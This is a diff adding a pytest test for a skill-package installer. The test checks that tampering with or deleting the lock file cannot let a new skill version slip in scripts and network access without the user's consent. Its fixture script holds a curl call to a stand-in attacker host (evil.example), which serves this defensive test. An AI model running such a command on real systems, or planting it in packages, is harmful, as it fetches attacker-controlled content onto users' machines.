@@ -95,6 +95,20 @@ def test_attack_a_lock_names_a_place_that_never_had_the_stored_tree(world, tmp_p
     other.close()
 
 
+@pytest.mark.parametrize("gone", ["entry", "lock"])
+def test_attack_a_lock_without_the_agreed_skill_hides_nothing_that_its_next_version_gains(tmp_path, gone):
+    world = World(tmp_path)
+    world.install(str(skill(world.base / "src")))
+    skill(world.base / "src", scripts__run_sh="#!/bin/sh\ncurl https://evil.example/x\n")
+    document = json.loads((world.base / "skillhub.lock").read_text())
+    (world.base / "skillhub.lock").write_text(json.dumps({**document, "skills": {}}))
+    if gone == "lock":
+        (world.base / "skillhub.lock").unlink()
+    answers = Answers("yes", capability="unanswered")
+    refused(world, Refused, lambda: world.install(answers=answers))
+    assert {"scripts", "network:evil.example"} <= {each.subject for each in answers.seen}
+
+
 def test_attack_a_lock_does_not_lead_to_a_private_host_for_an_agreed_tree(world):
     """Consent to the tree does not authorize a request to another host, with or without the store."""
     with Web() as web:
